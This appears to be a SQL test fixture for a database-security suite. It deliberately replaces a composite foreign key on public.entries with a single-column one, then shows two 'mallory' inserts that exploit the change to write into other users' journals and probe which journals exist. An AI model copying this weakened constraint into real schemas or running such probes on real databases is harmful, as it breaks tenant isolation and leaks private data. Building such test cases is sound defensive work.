-- channel: foreign key oracle
-- object: public.entries
-- says: With a single-column key an entry can be put into anybody's journal, if it exists.
alter table public.entries drop constraint entries_user_id_journal_id_fkey;
alter table public.entries add foreign key (journal_id)
references public.journals (id) on delete cascade;
-- exploit as mallory
insert into public.entries (journal_id, body) values ('b5000000-0000-4000-8000-0000000000ff', 'x');
insert into public.entries (journal_id, body) values ('b5000000-0000-4000-8000-000000000001', 'x');
-- leaks when differs
